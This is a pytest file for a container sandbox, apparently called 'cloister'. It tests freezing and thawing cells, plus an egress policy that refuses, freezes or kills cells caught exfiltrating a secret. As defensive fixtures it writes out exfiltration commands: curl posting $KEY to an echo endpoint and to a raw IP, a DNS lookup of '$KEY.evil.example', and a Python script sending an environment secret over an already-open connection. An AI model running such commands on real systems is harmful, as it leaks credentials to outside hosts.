"""`freeze` and `thaw`, and cells that are stopped for sending a secret where it may not go."""
import json
import os
import re
import signal
import subprocess
from pathlib import Path

import pytest

import leftovers
from egress_lab import CURL, await_event, helpers_of
from operators import is_alive, only_root, only_user, wait_until
from test_egress_secrets import UP, canary, give

POLICY = "version: 1\negress:\n  - allow: '*.example.test'\nexfiltration: {}\n"
LEAK = f'{" ".join(CURL)} -d "$KEY" {UP}/echo'


def state(operator, cell):
    return operator.cell(cell)["state"]


def is_frozen(cell):
    """Whether the whole cell is frozen, according to the kernel."""
    for group in leftovers.cgroups([cell]):
        for name, wanted in (("cgroup.events", "frozen 1"), ("freezer.state", "FROZEN")):
            try:
                if wanted in (Path(group) / name).read_text():
                    return True
            except OSError:
                continue
    return False


def await_frozen(cell):
    wait_until(lambda: is_frozen(cell), "all of it is frozen")


@only_root
def test_it_stops_and_goes_on(operator):
    cell = operator.detach("--name", "cold", "--", "sleep", "infinity")
    assert state(operator, cell) == "running" and not is_frozen(cell) and operator.cell(cell)["can_freeze"]
    assert operator.cloister("freeze", "cold").ok() == ""
    await_frozen(cell)
    assert state(operator, cell) == "frozen" and "frozen" in operator.cloister("ps").ok()
    operator.cloister("exec", cell, "--", "true").sentence("is frozen", "cloister thaw")
    operator.cloister("freeze", cell).ok()          # it is so already
    operator.cloister("thaw", cell).ok()
    assert state(operator, cell) == "running" and not is_frozen(cell)
    operator.cloister("exec", cell, "--", "true").ok()
    operator.cloister("thaw", cell).ok()
    operator.cloister("kill", cell).ok()
    operator.cloister("freeze", cell).sentence("has ended")
    operator.cloister("freeze").sentence("no cell is given")


@only_root
def test_all_of_them_stop_and_go_on(operator):
    cells = [operator.detach("--", "sleep", "infinity") for _ in range(3)]
    assert operator.cloister("freeze", "--all").ok() == "froze 3 cells\n"
    for cell in cells:
        await_frozen(cell)
    assert {state(operator, cell) for cell in cells} == {"frozen"}
    assert operator.cloister("thaw", "--all").ok() == "thawed 3 cells\n"
    assert {state(operator, cell) for cell in cells} == {"running"}
    operator.cloister("freeze", "--all", cells[0]).sentence("--all means every cell")
    assert operator.cloister("kill", "--all").ok() == "killed 3 cells\n"


@only_root
@pytest.mark.parametrize("verb", ["kill", "stop"])
def test_a_frozen_cell_can_be_ended(operator, verb):
    cell = operator.detach("--", "sh", "-c", "trap '' TERM; sleep infinity & wait")
    pids = operator.pids(cell)
    operator.cloister("freeze", cell).ok()
    await_frozen(cell)
    operator.cloister(verb, cell).ok()
    wait_until(lambda: not any(is_alive(pid) for pid in pids), "all of them are dead")


@only_root
@pytest.mark.parametrize("verb", ["kill", "stop", "thaw"])
def test_with_cgroups_of_version_1(operator, verb):
    """There, a frozen cell cannot even be killed."""
    if not Path("/sys/fs/cgroup/unified/cgroup.procs").exists() or not Path("/sys/fs/cgroup/freezer").exists():
        pytest.skip("this machine has no version 1")
    done = operator.do("unshare", "-m", "--propagation", "private", "sh", "-c",
                       'umount /sys/fs/cgroup/unified && exec "$@"', "sh", operator.program, "run", "-d", "--",
                       "sh", "-c", "sleep infinity & wait")
    cell = done.ok().strip()
    operator.kept.add(cell)
    assert all("/unified/" not in group for group in leftovers.cgroups([cell]))
    pids = operator.pids(cell)
    operator.cloister("freeze", cell).ok()
    await_frozen(cell)
    operator.cloister(verb, cell).ok()
    if verb == "thaw":
        operator.cloister("exec", cell, "--", "true").ok()
        operator.cloister("kill", cell).ok()
    wait_until(lambda: not any(is_alive(pid) for pid in pids), "all of them are dead")


@only_user
def test_without_a_cgroup_it_is_refused(operator):
    cell = operator.detach("--", "sleep", "infinity")
    if leftovers.cgroups([cell]):
        operator.cloister("kill", cell).ok()
        pytest.skip("this user has cgroups")
    operator.cloister("freeze", cell).sentence("cannot freeze the cell: it has no cgroup that can",
                                               "`cloister doctor`")
    operator.cloister("freeze", "--all").sentence("1 of 1 cells", "`cloister kill --all` ends them")
    assert state(operator, cell) == "running" and not operator.cell(cell)["can_freeze"]
    operator.cloister("thaw", cell).ok()
    operator.cloister("kill", cell).ok()
    # Who wants it is told before it is too late.
    asks = operator.file("asks.yaml", "version: 1\negress:\n  - allow: a.example\n  - ask: b.example\n    freeze: true\n")
    kills = operator.file("kills.yaml", "version: 1\negress: []\nbudgets: [{per: cell, requests: 5, then: freeze}]\n")
    for file, said in ((asks, r"the rule at asks.yaml:4:5, which asks with `freeze: true`, are refused\n"),
                       (kills, r"the cell is killed where the policy demands `freeze`\n")):
        for done in (operator.cloister("policy", "check", file), operator.run("-p", file, "--", "true")):
            assert done.status == 0 and re.fullmatch(r"cloister: cells cannot be frozen here .*, so .*" + said, done.err), done
        told, = json.loads(operator.cloister("policy", "check", "--json", file).ok())
        assert told["ok"] and len(told["notes"]) == 1 and operator.run("-q", "-p", file, "--", "true").err == ""


# ---- exfiltration ------------------------------------------------------------------------

def start(online, word, script, *options):
    give(online, canary())
    return online.start(online.policy(POLICY.format(word)), "sh", "-c", script, options=["-s", "KEY", *options])


def test_it_is_only_refused(online):
    start(online, "refuse", f"{LEAK}; exec sleep infinity")
    assert await_event(online, type="http", verdict="deny")["why"] == "exfiltration"
    assert state(online.operator, online.cell) == "running" and online.events(type="cell") == []
    online.operator.cloister("kill", online.cell).ok()


def test_a_request_that_no_rule_allows_kills_too(online):
    """Whatever its destination: a policy that kills for it need not allow the way."""
    leak = "curl -s -d \"$KEY\" http://93.184.216.99/"
    cell = start(online, "kill", f"{leak}; exec sleep infinity")
    assert online.operator.cloister("wait", cell).status == 137
    assert [e["by"] for e in online.events(type="cell", did="killed")] == ["exfiltration"]


def test_a_name_kills_too(online):
    """No request was made: it was only asked for where the name leads."""
    cell = start(online, "kill", "getent ahostsv4 $KEY.evil.example; exec sleep infinity")
    assert online.operator.cloister("wait", cell).status == 137
    assert [e["by"] for e in online.events(type="cell", did="killed")] == ["exfiltration"]
    assert online.refusal(type="dns")["why"] == "exfiltration"


@only_root
def test_it_freezes(online):
    start(online, "freeze", f"while :; do {LEAK}; done")
    event = await_event(online, type="cell", did="frozen")
    assert event["by"] == "exfiltration"
    await_frozen(online.cell)
    assert state(online.operator, online.cell) == "frozen"
    # It was told before it was done.
    assert online.events(type="http", why="exfiltration")[0]["n"] < event["n"]
    assert re.search(r" -( +-)+  cell frozen", online.operator.cloister("events", online.cell).ok())
    assert "in a part of the request where it is not allowed" in online.operator.cloister("why", online.cell).ok()
    # An operator lets it go on: the next one stops it again, though it is of the same kind.
    online.operator.cloister("thaw", online.cell).ok()
    thawed = await_event(online, type="cell", did="thawed")
    assert thawed["by"].startswith("uid 0, pid ")
    wait_until(lambda: len(online.events(type="cell", did="frozen")) == 2, "it is frozen again")
    await_frozen(online.cell)
    online.operator.cloister("kill", online.cell).ok()


@only_user
def test_a_cell_that_cannot_be_frozen_is_killed(online):
    cell = start(online, "freeze", f"{LEAK}; exec sleep infinity")
    if leftovers.cgroups([cell]):
        pytest.skip("this user has cgroups")
    assert online.operator.cloister("wait", cell).status == 137
    ended, = [c for c in online.operator.cells("-a") if c["cell"] == cell]
    assert "sent a secret to where that may not go" in ended["cause"] and "cannot freeze" in ended["cause"]
    assert [e["by"] for e in online.events(type="cell", did="killed")] == ["exfiltration"]


def test_it_kills(online):
    cell = start(online, "kill", f"{LEAK}; exec sleep infinity")
    assert online.operator.cloister("wait", cell).status == 137
    ended, = [c for c in online.operator.cells("-a") if c["cell"] == cell]
    assert ended["cause"] == "it sent a secret to where that may not go, and was killed"
    assert online.refusal(type="http")["why"] == "exfiltration"


# On a connection that is there already: what is sent on it can be sent before it is read.
LEAK_LATER = """
import http.client, os, ssl, time
up = http.client.HTTPSConnection("up.example.test", context=ssl.create_default_context())
up.request("GET", "/")
up.getresponse().read()
open("/tmp/ready", "w")
while not os.path.exists("/tmp/go"):
    time.sleep(0.001)
up.request("POST", "/echo", body=os.environ["KEY"])
open("/tmp/sent", "w")
time.sleep(1000)
"""


@only_root
@pytest.mark.parametrize("policy, script", [
    (POLICY.format("kill"), LEAK_LATER), (POLICY.format("refuse") + "tripwires: {exfiltration: kill}\n", LEAK_LATER),
    # A request that is refused for its body is not counted.
    (POLICY.format("refuse") + "budgets: [{per: cell, requests: 1, then: kill}]\n",
     LEAK_LATER.replace('os.environ["KEY"]', '"x"')),
])
def test_it_kills_a_cell_that_was_frozen_in_the_meantime(online, policy, script):
    """Otherwise a cell that is frozen in that moment, by an operator or for a lesser cause, would be thawed and go
    on."""
    operator = online.operator
    give(online, canary())
    cell = online.start(online.policy(policy), "/usr/bin/python3", "-c", script, options=["-s", "KEY"])
    wait_until(lambda: operator.cloister("exec", cell, "--", "test", "-e", "/tmp/ready").status == 0, "it is connected")
    courier = helpers_of(operator, cell)["courier"]
    os.kill(courier, signal.SIGSTOP)
    operator.cloister("exec", cell, "--", "touch", "/tmp/go").ok()
    wait_until(lambda: operator.cloister("exec", cell, "--", "test", "-e", "/tmp/sent").status == 0, "it is sent")
    operator.cloister("freeze", cell).ok()
    os.kill(courier, signal.SIGCONT)
    assert operator.cloister("wait", cell).status == 137


@only_root
def test_in_the_foreground_a_message_reports_it(online):
    give(online, canary())
    policy = online.policy(POLICY.format("freeze"))
    process = online.operator.start("--name", "cold", "-p", policy, "-s", "KEY", "--", "sh", "-c",
                                    f"echo $CLOISTER_CELL; {LEAK}; exec sleep infinity",
                                    stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    cell = process.stdout.readline().decode().strip()
    online.operator.kept.add(cell)
    said = process.stderr.readline().decode()
    assert re.match(r"cloister: cell cold: it sent a secret .* is frozen: .*cloister thaw cold", said), said
    await_frozen(cell)
    # Nobody in there can act on it.
    os.kill(online.operator.cell(cell)["supervisor"], signal.SIGINT)
    _, err = process.communicate(timeout=60)
    assert b"an operator ended it" in err
    assert process.returncode in (137, -9)


def test_only_the_policy_stops_a_cell(online):
    """A courier that asks for it all the same breaks the protocol; other refusals are not a reason."""
    start(online, "freeze", f'{" ".join(CURL)} https://nowhere.example/; exec sleep infinity')
    await_event(online, type="dns", verdict="deny")
    assert state(online.operator, online.cell) == "running" and online.events(type="cell") == []
    online.operator.cloister("kill", online.cell).ok()


@only_root
def test_a_budget_of_processors(operator):
    """By the cgroup's own count; not what another cell uses."""
    policy = operator.file("policy.yaml", "version: 1\negress: []\nbudgets: [{cpu: 200ms, then: kill}]\n")
    idle = operator.detach("-p", policy, "--", "sleep", "infinity")
    cell = operator.detach("-p", policy, "--", "sh", "-c", "while :; do :; done")
    assert operator.cloister("wait", cell).status == 137
    ended, = [c for c in operator.cells("-a") if c["cell"] == cell]
    assert "of 200ms of processors" in ended["cause"]
    assert state(operator, idle) == "running"
    operator.cloister("kill", idle).ok()
